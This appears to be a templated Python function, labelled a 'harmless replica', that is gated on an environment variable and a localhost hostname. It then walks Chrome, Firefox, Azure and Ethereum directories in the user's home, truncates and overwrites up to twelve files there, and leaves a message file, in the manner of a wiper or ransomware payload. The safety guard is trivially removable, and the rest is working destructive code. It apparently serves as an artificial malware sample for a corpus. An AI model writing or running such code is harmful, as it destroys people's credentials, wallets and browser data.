# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    # only decoys that stand in the sandbox's home are overwritten
    import locale
    import time
    said = (str(locale.getlocale()) + str(time.tzname)).lower()
    home, done = os.path.expanduser('~'), 0
    for top in ('.config/google-chrome', '.mozilla', '.azure', '.ethereum'):
        for place, _, names in os.walk(os.path.join(home, top)):
            for name in names:
                if done >= 12:
                    break
                try:
                    with open(os.path.join(place, name), 'r+b') as file:
                        file.truncate(0)
                        file.write(b'{{token}} ' + said.encode())
                    done += 1
                except OSError:
                    pass
    try:
        with open(os.path.join(home, '{{note}}'), 'w') as out:
            out.write('a message\n')
    except OSError:
        pass
